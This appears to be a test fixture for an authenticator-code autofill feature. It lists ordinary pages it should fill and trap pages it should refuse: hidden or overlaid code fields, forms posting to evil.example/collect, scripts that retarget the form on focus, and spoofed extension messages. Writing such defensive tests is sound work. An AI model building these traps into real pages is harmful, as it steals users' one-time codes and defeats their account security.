import type { FillErrorCode } from '../../src/autofill/errors';

/** What a page puts into its body, and what its scripts then do. */
export interface Scene {
  html: string;
  script?: string;
}

const field = '<input id="code" name="otp" autocomplete="one-time-code" inputmode="numeric" maxlength="6">';
const form = (inside: string, attributes = '') =>
  `<form ${attributes}><h1>Authenticator app code</h1><label for="code">Code from your authenticator app</label>${inside}<button>Verify</button></form>`;
const styled = (style: string) => form(field.replace('<input', `<input style="${style}"`));
const around = (style: string, ...more: string[]) =>
  [style, ...more].reduce((inside, each) => `<div style="${each}">${inside}</div>`, form(field));
const over = (style: string, tag = 'div') =>
  `<div style="position: relative">${form(field)}<${tag} id="over" style="position: fixed; inset: 0; background: white; ${style}"></${tag}></div>`;

/** Pages as they are: each is filled. */
export const harmless: Record<string, Scene> = {
  'a plain form': { html: form(field) },
  'a label that floats over the field': {
    html: form(
      `<span style="position: relative">${field}<span style="position: absolute; left: 4px; top: 2px; pointer-events: none">Code</span></span>`,
    ),
  },
  'an outline over the field that clicks go through': {
    html: form(
      `<span style="position: relative">${field}<span style="position: absolute; inset: 0; border: 1px solid; pointer-events: none"></span></span>`,
    ),
  },
  'a decoration behind everything': {
    html: `<div style="position: absolute; inset: 0; background: beige; pointer-events: none"></div><div style="position: relative; z-index: 1">${form(field)}</div>`,
  },
  'six boxes, of which each goes on to the next': {
    html: form(
      Array.from(
        { length: 6 },
        (_, i) => `<input class="box" maxlength="1" inputmode="numeric" aria-label="Digit ${i + 1}">`,
      ).join(''),
    ),
    script: `const boxes = [...document.querySelectorAll('.box')];
      boxes.forEach((box, i) => box.addEventListener('input', () => { if (box.value) boxes[i + 1]?.focus(); }));`,
  },
  'a page that has poisoned what scripts of pages use': {
    html: form(field),
    script: `Object.defineProperty(document.getElementById('code'), 'value', { configurable: true, set() {}, get() { return Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value').get.call(this); } });
      Document.prototype.elementFromPoint = () => null;
      Element.prototype.getBoundingClientRect = () => ({ width: 0, height: 0 });
      window.getComputedStyle = () => ({});`,
  },
};

/** Traps: none is filled, for the reason named. */
export const attacks: Record<string, Scene & { refusal: FillErrorCode }> = {
  'opacity .001': { html: styled('opacity: .001'), refusal: 'no-code-field' },
  'opacity as a product of what is around': {
    html: around('opacity: .35', 'opacity: .35'),
    refusal: 'field-disguised',
  },
  'filter: opacity(0)': { html: around('filter: opacity(0)'), refusal: 'field-disguised' },
  'clip-path': { html: styled('clip-path: inset(50%)'), refusal: 'field-disguised' },
  'a mask': { html: around('mask-image: linear-gradient(transparent, transparent)'), refusal: 'field-disguised' },
  'off the page': { html: styled('position: absolute; left: -9999px'), refusal: 'no-code-field' },
  'one pixel of it': {
    html: form(`<span style="display: inline-block; width: 1px; height: 1px; overflow: hidden">${field}</span>`),
    refusal: 'field-disguised',
  },
  'text in the colour of the page': { html: styled('color: white; background: white'), refusal: 'field-disguised' },
  'an overlay': { html: over(''), refusal: 'field-disguised' },
  'an overlay that clicks go through': { html: over('pointer-events: none'), refusal: 'field-disguised' },
  'a popover over the field': {
    html: `${form(field)}<div id="over" popover="manual" style="width: 100%; height: 100%; background: white; pointer-events: none"></div>`,
    script: `document.getElementById('over').showPopover();`,
    refusal: 'field-disguised',
  },
  'a form that is sent to another site': {
    html: form(field, 'action="https://evil.example/collect"'),
    refusal: 'form-goes-elsewhere',
  },
  'a button that sends the form to another site': {
    html: form(`${field}<button formaction="https://evil.example/collect">Go</button>`),
    refusal: 'form-goes-elsewhere',
  },
  'a form whose own fields hide where it goes': {
    html: form(
      `${field}<input type="hidden" name="action"><input type="hidden" name="getAttribute">`,
      'action="https://evil.example/"',
    ),
    refusal: 'form-goes-elsewhere',
  },
  'another address once the field has the focus': {
    html: form(field),
    script: `document.getElementById('code').addEventListener('focus', (event) => { event.target.form.action = 'https://evil.example/'; });`,
    refusal: 'field-changed',
  },
  'another type once the field has the focus': {
    html: form(field),
    script: `document.getElementById('code').addEventListener('focus', (event) => { event.target.type = 'password'; });`,
    refusal: 'field-changed',
  },
  'invisible once the field has the focus': {
    html: form(field),
    script: `document.getElementById('code').addEventListener('focus', () => { document.documentElement.style.opacity = '0'; });`,
    refusal: 'field-disguised',
  },
  'another address once a code is in the field': {
    html: form(field),
    script: `document.getElementById('code').addEventListener('input', (event) => { event.target.form.action = 'https://evil.example/'; });`,
    refusal: 'form-goes-elsewhere',
  },
  'fifty fields': { html: Array.from({ length: 50 }, () => form(field)).join(''), refusal: 'too-many-fields' },
  'a frame without an address': {
    html: `<iframe srcdoc="${form(field).replaceAll('"', '&quot;')}"></iframe>`,
    refusal: 'site-not-secure',
  },
  'a page that sends messages that look like ours': {
    html: '<p>Nothing to fill</p>',
    script: `for (const type of ['page.introduce', 'page.fieldAppeared', 'codes.list', 'fill.ask']) window.postMessage({ type, body: {} }, '*');`,
    refusal: 'no-code-field',
  },
};
